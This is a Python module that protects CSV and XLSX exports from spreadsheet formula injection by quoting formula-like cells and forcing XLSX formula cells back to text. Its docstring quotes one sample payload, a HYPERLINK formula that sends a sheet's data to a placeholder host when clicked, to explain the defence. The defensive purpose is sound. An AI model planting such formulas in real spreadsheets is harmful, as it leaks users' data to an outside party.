"""Cells for the CSV and XLSX files people open in Excel: text stays text, never a formula.

Customer messages become FAQ candidates, agent names come from supervisors and from Amazon
Connect, and customer ids reach the conversation export. To Excel or LibreOffice a cell that
starts with = + - @ (or a tab or carriage return) is a formula: `=HYPERLINK("https://x/?"&A2)`
sends the sheet's data away when clicked, `-2-3` quietly becomes -5 (OWASP "CSV injection").
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def needs_quote(text: str) -> bool:
    """True for text a spreadsheet would run as a formula (or text already quoted by us)."""
    if text.startswith("'"):
        return text[1:].startswith(("'", *FORMULA_STARTS))
    # "-3.5" is a number to Excel, not a formula: it keeps its value.
    return text.startswith(FORMULA_STARTS) and not _is_number(text)


def csv_cell(value: Any) -> Any:
    """A CSV cell: None is empty; formula-like text gets a leading apostrophe (shown as text)."""
    if value is None:
        return ""
    if isinstance(value, str) and needs_quote(value):
        return "'" + value
    return value


def csv_uncell(value: Any) -> Any:
    """The inverse of csv_cell, for files we exported that come back in an import."""
    if isinstance(value, str) and value.startswith("'") and needs_quote(value[1:] or "x"):
        return value[1:]
    return value


def xlsx_append(sheet: Worksheet, row: Iterable[Any]) -> None:
    """Append a row; text is stored as text, so "=..." is never written as a formula.

    openpyxl turns a str starting with "=" into a formula cell; XLSX text cells are never
    evaluated, so forcing the type keeps the value exactly, without an apostrophe.
    """
    sheet.append(list(row))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type == "f":
            cell.data_type = "s"
